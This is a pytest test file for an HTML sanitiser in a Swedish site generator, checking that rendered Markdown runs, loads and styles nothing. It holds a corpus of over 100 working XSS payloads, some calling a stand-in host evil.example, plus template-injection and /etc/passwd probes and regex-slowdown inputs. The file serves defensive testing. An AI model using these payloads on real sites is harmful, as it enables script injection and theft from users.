"""Texts become HTML in one place, and whatever is written there, nothing in it runs, loads or styles."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markupsafe import Markup

from generator.field_type import FIELD_TYPES, Unreadable
from generator.markup import ATTRIBUTES, LINK_REL, TAGS, URL_SCHEMES, render, render_article
from tests.tiny import PROGRAM, environment

BOTH = pytest.mark.parametrize("make", [render, render_article])


class Elements(HTMLParser):
    """The tags of a piece of HTML with their attributes, and its text."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.words = ""
        self.others: list[str] = []
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.words += data

    def handle_comment(self, data: str) -> None:
        self.others.append(data)

    handle_decl = handle_pi = unknown_decl = handle_comment

    def names(self) -> list[str]:
        return [name for name, _ in self.found]


def assert_harmless(html: str) -> None:
    """Only what the lists allow: no script, no event, no style, no address that runs, nothing fetched."""
    elements = Elements(html)
    assert elements.others == []
    for name, attributes in elements.found:
        assert name in TAGS - {"h1"}, name
        allowed = ATTRIBUTES.get(name, set()) | {"rel", "title", "lang"}
        assert attributes.keys() <= allowed, (name, attributes)
        assert not any(
            attribute.startswith("on") or attribute in ("style", "src", "srcset") for attribute in attributes
        )
        # As browsers read an address: no tabs or new lines, nothing that cannot be seen before it.
        address = re.sub(r"[\t\r\n]", "", attributes.get("href", "")).lstrip("".join(map(chr, range(33))))
        scheme = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", address)
        assert not scheme or scheme[1].lower() in URL_SCHEMES, address


VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1);//<</script>",
    "<script/xss src=//evil.example></script>",
    "</script><script>alert(1)</script>",
    "<script>alert(1)",
    "<script type=module>import '//evil.example'</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    "<img src='//evil.example/spy.gif'>",
    "<img srcset='//evil.example/spy.gif 2x'>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://evil.example/spy.gif)",
    '![x" onerror="alert(1)](https://evil.example/x)',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href='javascript:alert(1)'>x</math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x></applet>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)><head><title>x",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.example><button>Logga in</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='https://example.com' onclick=alert(1) style=x target=_blank rel=opener ping=//evil.example>x</a>",
    "<a href='https://example.com/\"onmouseover=alert(1)//'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](javascript://example.com/%0aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://example.com/1)",
    "[x](https://example.com 'a\" onmouseover=\"alert(1)')",
    '[x](https://example.com/"onmouseover=alert(1))',
    '[x"><script>alert(1)</script>](https://example.com)',
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: https://example.com '\"><script>alert(1)</script>'",
    "<javascript:alert(1)>",
    '<https://example.com/"onclick=alert(1)>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    '```"><script>alert(1)</script>\nx\n```',
    "<!--<script>alert(1)</script>-->",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "<h1 onclick=alert(1)>x</h1>",
    "<h2 id='x' onclick=alert(1)>x</h2>",
    "|<script>alert(1)</script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|c|",
    "x[^1]\n\n[^1]: <script>alert(1)</script>",
    "x[^<script>alert(1)</script>]\n\n[^<script>alert(1)</script>]: y",
    '*[HTML]: "><script>alert(1)</script>\n\nHTML',
    "<script>alert(1)</script>\n:   <img src=x onerror=alert(1)>",
    '[TOC]\n\n# <img src=x onerror=alert(1)>\n\n# "><script>alert(1)</script>',
    "# x {onclick=alert(1)}",
    "[x](https://example.com){onclick=alert(1)}",
    "\u2028<script>alert(1)</script>",
    "<ſcript>alert(1)</ſcript>",
    "<img/src=`x`onerror=alert(1)>",
    "<x onclick=alert(1)>x</x>",
    "<x-element onclick=alert(1)>x</x-element>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script>alert(1)&#60;/script>",
    "\\<script>alert(1)\\</script>",
    "{{7*7}} {% include '/etc/passwd' %} {attach}/etc/passwd |filename|/etc/passwd",
    "\x02wzxhzdk:0\x03 <script>alert(1)</script>",
]


def test_the_corpus_is_large_enough():
    assert len(set(VECTORS)) >= 100


@BOTH
@pytest.mark.parametrize("text", VECTORS, ids=lambda text: ascii(text)[1:40])
def test_no_attack_gets_through(make, text):
    for written in (text, f"Hej {text} hopp", f"- a\n- {text}", f"> {text}\n\nslut"):
        html = make(written)
        assert isinstance(html, Markup)
        assert_harmless(html)


PIECES = st.one_of(st.sampled_from(VECTORS), st.text(max_size=12), st.sampled_from("<>\"'`[]()\n&;:/ "))


@BOTH
@settings(max_examples=400, derandomize=True, database=None, deadline=None)
@given(parts=st.lists(PIECES, max_size=6))
def test_no_mixture_of_attacks_gets_through(make, parts):
    assert_harmless(make("".join(parts)))


@BOTH
def test_a_template_is_a_text_like_others(make):
    """Nothing is calculated or fetched."""
    assert "{{7*7}}" in make("{{7*7}}") and "{attach}/etc/passwd" in make("{attach}/etc/passwd")


@BOTH
@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("a <b>fet</b> c", "a fet c"),
        ("<div id=main><nav>x</nav></div>", "x"),
        ("<h2 id=innehall>x</h2>", "x"),
        ("a <abbr title=y>x</abbr>", "a x"),
        ("<table><tr><td>x</td></tr></table>", "x"),
        ("a <a href=https://example.com>x</a>", "a x"),
        ("a <!-- hemligt --> c", "a  c"),
        ("<p>x</p>", "x"),
    ],
)
def test_html_is_left_away_and_its_words_are_kept(make, text, kept):
    """As the warning html-in-text says, also where the tag is one that Markdown makes itself."""
    elements = Elements(make(text))
    assert set(elements.names()) <= {"p"}
    assert elements.words.strip() == kept or elements.words.strip() == ""
    assert "hemligt" not in elements.words


@BOTH
def test_headings_go_one_step_down_because_the_page_has_its_own(make):
    text = "\n\n".join(f"{'#' * level} Rubrik" for level in range(1, 7))
    assert Elements(make(text)).names() == ["h2", "h3", "h4", "h5", "h6", "h6"]
    assert "h1" not in Elements(make("Rubrik\n======\n\ntext")).names()


@BOTH
def test_headings_begin_below_the_pages_own_and_skip_no_step(make):
    """Whatever the author begins with, and however many steps a heading jumps."""
    assert Elements(make("## Ett\n\n#### Två\n\n### Tre\n\n## Fyra")).names() == ["h2", "h3", "h3", "h2"]
    assert Elements(make("### Ett\n\n# Två")).names() == ["h2", "h2"]


@BOTH
def test_a_heading_or_a_paragraph_without_words_is_no_heading_and_no_paragraph(make):
    assert Elements(make("##\n\n# <b></b>\n\n<!-- hemligt -->\n\nord")).names() == ["p"]
    assert Elements(render_article("[TOC]\n\n##\n\n## Del ett")).names().count("a") == 1


@BOTH
def test_words_in_lines_of_html_are_words_and_what_scripts_say_is_not(make):
    assert Elements(make("<center>\nVälkommen *hit*\n</center>")).words.strip() == "Välkommen *hit*"
    assert Elements(make("<script>alert(1)</script>\n\nord")).words.strip() == "ord"


@BOTH
def test_what_is_left_of_a_tag_in_a_tag_is_text(make):
    assert Elements(make("<di<b>v id=x>ord</di</b>v>")).names() == ["p"]


def test_headings_have_ids_that_are_never_those_of_the_pages_own_parts():
    """`innehall` is where the page's content begins; `g-when` is a group of fields."""
    found = Elements(render_article("# Innehåll\n\n# Ord\n\n# G when\n\n# Ord\n\n# Så kommer du med")).found
    assert [attributes["id"] for _, attributes in found] == [
        "avsnitt-innehall",
        "avsnitt-ord",
        "avsnitt-g-when",
        "avsnitt-ord_1",
        "sa-kommer-du-med",
    ]


@BOTH
def test_a_heading_in_code_is_code(make):
    html = make("    <h1>x</h1> och <h2>y</h2>\n")
    assert "&lt;h1&gt;x&lt;/h1&gt; och &lt;h2&gt;y&lt;/h2&gt;" in html


@BOTH
@pytest.mark.parametrize(
    "address",
    ["https://example.com/a?b=c", "http://example.com", "mailto:info@example.com", "tel:+46980319201", "/om/", "#del"],
)
def test_links_that_lead_somewhere_are_kept_and_lend_nobody_a_good_name(make, address):
    ((_, attributes),) = [one for one in Elements(make(f"[länk]({address})")).found if one[0] == "a"]
    assert attributes == {"href": address, "rel": LINK_REL}
    assert {"nofollow", "ugc", "noopener"} == set(LINK_REL.split())


@BOTH
def test_what_looks_like_a_link_in_words_is_told_from_a_link(make):
    """Pages find the links to be made relative by these signs."""
    html = make('Skriv href="/om/" eller `href="/om/"`, inte [så](/om/ "a > href=\\"/x/\\"").')
    assert html.count('href="/') == 1
    assert Elements(html).words.strip() == 'Skriv href="/om/" eller href="/om/", inte så.'


@BOTH
def test_a_link_to_a_host_without_a_scheme_is_not_a_link_within_the_site(make):
    assert 'href="https://example.com/a"' in make("[länk](//example.com/a)")


@BOTH
def test_a_link_that_may_not_be_followed_keeps_its_words(make):
    elements = Elements(make("[läs mer](javascript:alert(1))"))
    assert elements.words.strip() == "läs mer"
    assert not any("href" in attributes for _, attributes in elements.found)


def test_a_records_text_has_what_letters_and_leaflets_have():
    html = render("**fet** *kursiv* ~~struken~~ `kod`\n\n- a\n- b\n\n1. c\n\n> citat\n\n---\n")
    assert {"p", "strong", "em", "del", "code", "ul", "ol", "li", "blockquote", "hr"} == set(Elements(html).names())


def test_a_page_also_has_tables_notes_and_a_list_of_contents():
    html = render_article("[TOC]\n\n# Del ett\n\n|a|b|\n|-|-|\n|c|d|\n\nx[^1]\n\n[^1]: not\n\nord\n:   förklaring\n")
    elements = Elements(html)
    assert {"table", "th", "td", "sup", "dl", "dt", "dd"} <= set(elements.names())
    targets = {attributes["id"] for _, attributes in elements.found if "id" in attributes}
    links = {attributes["href"][1:] for _, attributes in elements.found if attributes.get("href", "").startswith("#")}
    assert links <= targets and "del-ett" in targets


def test_the_way_back_from_a_note_is_called_what_the_page_calls_it():
    html = render_article("x[^1] y[^2]\n\n[^1]: not\n[^2]: en till", "Tillbaka till fotnot {} i texten")
    titles = [attributes["title"] for _, attributes in Elements(html).found if "title" in attributes]
    assert titles == ["Tillbaka till fotnot 1 i texten", "Tillbaka till fotnot 2 i texten"]


@BOTH
def test_the_same_text_gives_the_same_html(make):
    text = "# Hej\n\nx[^1]\n\n[^1]: y"
    first = str(make(text))
    make("något annat[^1]\n\n[^1]: z")
    make.cache_clear()
    assert str(make(text)) == first


@BOTH
def test_no_text_is_no_html(make):
    assert str(make("")).strip() == ""


def test_the_lists_of_what_is_allowed_have_nothing_that_runs_loads_or_asks():
    assert not TAGS & set("script style iframe object embed form input button svg math img video h1 link meta".split())
    attributes = set().union(*ATTRIBUTES.values())
    assert not any(name in ("style", "class", "src", "srcset") or name.startswith("on") for name in attributes)


BOMBS = {
    "brackets with letters": "[a",
    "brackets with spaces": "[ ",
    "pictures": "![a",
    "links": "[a](",
    "links with titles": "[a](b 'c ",
    "references": "[a][b",
    "tags": "<a ",
    "closed tags": "<b></b>",
    "comments": "<!-- ",
    "emphasis": "*a _b ",
    "strong emphasis": "***a **b ",
    "code": "`a ``b ",
    "entities": "&a&#1;",
    "notes": "[^1] ",
    "note texts": "[^1]: x\n",
    "abbreviations": "*[a]: b\n",
    "tables": "|a|b|\n|-|-\n",
    "headings": "# a\n\n",
    "lists in lists on a line": "- ",
    "numbered lists in lists on a line": "1. ",
    "quotes in lists": "> - ",
    "lists in quotes": "- > ",
    "two kinds of lists": "* - ",
    "definitions": "a\n: b\n\n",
    "backslashes": "\\`",
    "boxes": "<div>",
    "lists of HTML": "<ul><li>",
    "tables of HTML": "<table><tr><td>",
}
SCRIPT = """
import json, sys
from generator.field_type import FIELD_TYPES, Unreadable
from generator.markup import render, render_article
patterns, kind, length = json.load(sys.stdin)
for pattern in patterns:
    text = (pattern * length)[:length]
    try:
        FIELD_TYPES[kind].read(text)
        {"markdown": render, "article": render_article}[kind](text)
    except Unreadable as refused:
        assert refused.code == "tangled-markdown"
"""
ALL_TOGETHER = pytest.param(list(BOMBS.values()), "markdown", 5000, id="fault-25 fault-26: all, as texts of records")
ONE_BY_ONE = [
    pytest.param([pattern], "article", 20_000, id=f"fault-25 fault-26: {name}, as a page")
    for name, pattern in BOMBS.items()
]


@pytest.mark.parametrize(("patterns", "kind", "length"), [ALL_TOGETHER, *ONE_BY_ONE])
def test_a_text_of_the_greatest_length_is_refused_or_shown_in_a_moment(patterns, kind, length):
    """In a process of its own; 20 seconds for what should take less than one."""
    order = json.dumps([patterns, kind, length])
    command = [sys.executable, "-c", SCRIPT]
    done = subprocess.run(
        command, input=order, text=True, cwd=PROGRAM, env=environment(), capture_output=True, timeout=20, check=False
    )
    assert done.returncode == 0, done.stderr[-500:]


@pytest.mark.parametrize("text", ["[" * 50_000, "](" * 25_000, "*" * 50_000, "<" * 50_000, "{" * 41, "`" * 41])
def test_long_runs_of_signs_are_refused_before_they_are_read(text):
    for kind in ("markdown", "article"):
        with pytest.raises(Unreadable, match="tangled-markdown"):
            FIELD_TYPES[kind].read(text)


@pytest.mark.parametrize("text", ["-" * 80, "=" * 80, "." * 80, "a\n- b\n  - c\n    - d\n      - e", "> > > citat"])
def test_what_people_write_is_not_tangled(text):
    for kind in ("markdown", "article"):
        assert FIELD_TYPES[kind].read(text) == text
